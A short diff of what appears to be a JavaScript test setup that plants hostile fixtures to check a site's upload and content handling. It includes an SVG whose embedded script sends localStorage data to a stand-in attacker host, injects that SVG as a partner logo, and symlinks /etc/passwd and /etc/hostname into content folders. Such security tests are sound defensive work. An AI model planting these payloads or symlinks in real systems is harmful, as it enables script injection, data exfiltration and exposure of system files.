@@ -20,7 +20,10 @@ beforeAll(() => {
     '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://attacker.example/?"+localStorage.length)</script></svg>',
   );
   const partner = join(repo, 'content/partners/baikal-digital.md');
-  writeFileSync(partner, readFileSync(partner, 'utf8').replace(/^city: /m, 'logo: /uploads/hostile-logo.svg\ncity: '));
+  writeFileSync(
+    partner,
+    readFileSync(partner, 'utf8').replace(/^verified: /m, 'logo: /uploads/hostile-logo.svg\nverified: '),
+  );
   symlinkSync('/etc/hostname', join(repo, 'public/uploads/hostname.csv'));
   symlinkSync(join(repo, 'public'), join(repo, 'public/uploads/loop'));
   symlinkSync('/etc/passwd', join(repo, 'content/partners/passwd.md'));
